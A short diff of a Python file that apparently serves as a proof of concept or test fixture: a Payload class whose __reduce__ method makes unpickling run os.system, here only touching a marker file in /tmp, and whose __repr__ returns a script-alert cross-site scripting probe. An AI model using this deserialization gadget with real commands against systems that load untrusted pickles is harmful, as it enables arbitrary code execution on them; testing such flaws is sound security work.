@@ -7,7 +7,7 @@ import os
 
 class Payload:
     def __reduce__(self):
-        return os.system, ("touch /tmp/outside_y_was_here_too",)
+        return os.system, ("touch /tmp/left_by_a_student_was_here_too",)
 
     def __repr__(self):
         return "<script>alert(1)</script>"
